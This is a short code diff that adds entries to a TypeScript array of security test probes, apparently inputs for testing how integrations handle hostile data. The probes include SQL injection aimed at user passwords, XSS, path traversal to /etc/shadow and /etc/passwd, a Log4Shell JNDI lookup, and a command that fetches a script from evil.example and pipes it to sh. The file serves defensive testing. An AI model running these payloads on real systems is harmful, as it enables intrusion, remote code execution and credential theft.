@@ -51,6 +51,11 @@ export const SECURITY_PROBES = [
   { classification: 'template', body: '{{7*7}} ${7*7} <%= 7*7 %>' },
   { classification: 'path', body: '../../../../etc/shadow' },
   { classification: 'fuzz', body: 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA%n%n%n%x%x\u202e\uffff' },
+  { classification: 'script', body: '%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E' },
+  { classification: 'sql', body: "1' UNION SELECT username, password FROM users--" },
+  { classification: 'command', body: '$(curl -s evil.example/x | sh)' },
+  { classification: 'template', body: '${jndi:ldap://evil.example/a}' },
+  { classification: 'path', body: '..%2f..%2f..%2fetc%2fpasswd' },
 ] as const;
 
 export const CONNECTORS = ['github', 'slack', 'stripe', 'notion', 'linear'] as const;
